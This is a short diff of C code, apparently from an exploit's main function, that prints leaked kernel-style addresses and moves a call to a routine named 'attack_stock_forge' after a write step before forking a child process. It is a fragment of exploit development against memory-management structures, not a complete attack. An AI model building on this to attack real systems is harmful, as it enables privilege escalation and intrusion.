@@ -50,8 +50,8 @@ int main(void)
 	entries_read(&leak);
 	attack_say("the first process's root is 0x%lx; the stock at 0x%lx has it for an empty one",
 		   leak.root_first, leak.spare_roots.slots);
-	before = attack_stock_forge(&leak.spare_roots, leak.root_first);
 	entries_write(&leak, false);
+	before = attack_stock_forge(&leak.spare_roots, leak.root_first);
 	child = fork();
 	if (child == 0) {
 		sleep(ASLEEP_S);
